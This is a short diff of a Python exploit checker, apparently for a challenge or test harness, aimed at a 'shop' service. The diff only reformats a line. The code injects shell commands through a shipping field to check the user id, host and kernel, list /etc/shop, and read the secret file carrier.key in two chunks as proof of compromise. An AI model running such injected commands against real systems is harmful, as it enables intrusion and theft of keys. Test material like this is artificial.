@@ -8,7 +8,8 @@ KEY = "/etc/shop/carrier.key"
 
 def run(attack: Attack) -> bool:
     said = []
-    for command in ("id -u", "hostname", "uname -r", "ls /etc/shop", f"head -c 8 {KEY}", f"tail -c +9 {KEY}"):
+    for command in ("id -u", "hostname", "uname -r", "ls /etc/shop", f"head -c 8 {KEY}",
+                    f"tail -c +9 {KEY}"):
         said.append(attack.shipping(command))
         attack.wait(10)
     return attack.prove(said[0] == "33" and said[4] + said[5] == "shipping-3d5c20be", said=said)
